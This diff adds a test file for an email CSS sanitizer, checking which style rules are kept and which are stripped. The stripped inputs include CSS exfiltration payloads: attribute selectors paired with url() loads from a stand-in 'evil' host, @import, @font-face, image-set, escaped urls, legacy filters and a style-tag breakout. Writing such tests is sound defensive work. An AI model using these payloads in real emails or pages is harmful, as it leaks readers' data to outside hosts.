@@ -1,0 +1,54 @@
+import { expect, test } from 'vitest'
+import { keepSafeRules } from '../../../../src/channels/email/message/style-rules.js'
+
+test.each([
+  ['p { color: #333; margin: 0 auto }', 'p{color: #333;margin: 0 auto}'],
+  [
+    'td.a > b, #c:hover { font: 12px/1.5 "Segoe UI", Arial; background: rgba(0, 0, 0, .5) !important }',
+    'td.a > b, #c:hover{font: 12px/1.5 "Segoe UI", Arial;background: rgba(0, 0, 0, .5) !important}',
+  ],
+  [
+    '@media only screen and (max-width: 600px) { .w { width: 100% } p { padding: 0 } }',
+    '@media only screen and (max-width: 600px){.w{width: 100%}p{padding: 0}}',
+  ],
+  ['/* a } */ p /* b */ { color: red /* c */ }', 'p{color: red}'],
+  ['@charset "utf-8"; p { color: red }', 'p{color: red}'],
+])('what only looks stays: %s', (css, kept) => {
+  expect(keepSafeRules(css).replaceAll(/ +/g, ' ')).toBe(kept)
+})
+
+test.each([
+  ['an attribute selector', 'a[href^="https://n/A"] { background: url(https://evil/A) }'],
+  ['an attribute selector that loads nothing itself', 'body:has(a[href*=A]) .probe { display: block }'],
+  ['an attribute selector behind :is', ':is(a[href^=A]) { color: red }'],
+  ['an escaped bracket', 'a\\5b href^=A\\5d { color: red }'],
+  ['a picture', 'p { background-image: url(https://evil/) }'],
+  ['a picture with an escape', 'p { background: u\\72l(https://evil/) }'],
+  ['a picture by its set', 'p { background: image-set("https://evil/" 1x) }'],
+  ['a picture without quotes', 'p { list-style: URL( //evil ) }'],
+  ['a variable', 'p { --x: url(https://evil/); background: var(--x) }'],
+  ['an attribute as text', 'a::after { content: attr(href) }'],
+  ['text by itself', 'a::after { content: "x" }'],
+  ['an import', '@import "https://evil/x.css";'],
+  ['an import by url', "@import url('https://evil/x.css') screen;"],
+  ['a font', '@font-face { font-family: x; src: url(https://evil/); unicode-range: U+41 }'],
+  ['a container', '@container (width > 10px) { .p { display: block } }'],
+  ['support of an attribute', '@supports selector(a[href]) { p { color: red } }'],
+  ['nested rules', 'p { a[href^=A] { color: red } }'],
+  ['nested rules in media', '@media screen { p { & a[href] { color: red } } }'],
+  ['a filter of old browsers', "p { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil/') }"],
+  ['a behavior', 'p { behavior: none }'],
+  ['an end of the element', 'p { color: red</style><img src=x> }'],
+  ['what is left open', 'p { color: red'],
+])('what can tell goes: %s', (_, css) => {
+  expect(keepSafeRules(css)).toBe('')
+})
+
+test('a rule loses only what can tell', () => {
+  expect(keepSafeRules('p, a[href] { color: red; background: url(x); margin: 0 }')).toBe('p{color: red;margin: 0}')
+})
+
+test('a megabyte of braces takes no more than a moment', () => {
+  for (const piece of ['{', '}', '{}', 'p{', '/*', '@media{', 'p{a:b}', '"'])
+    keepSafeRules(piece.repeat(1_048_576 / piece.length))
+})
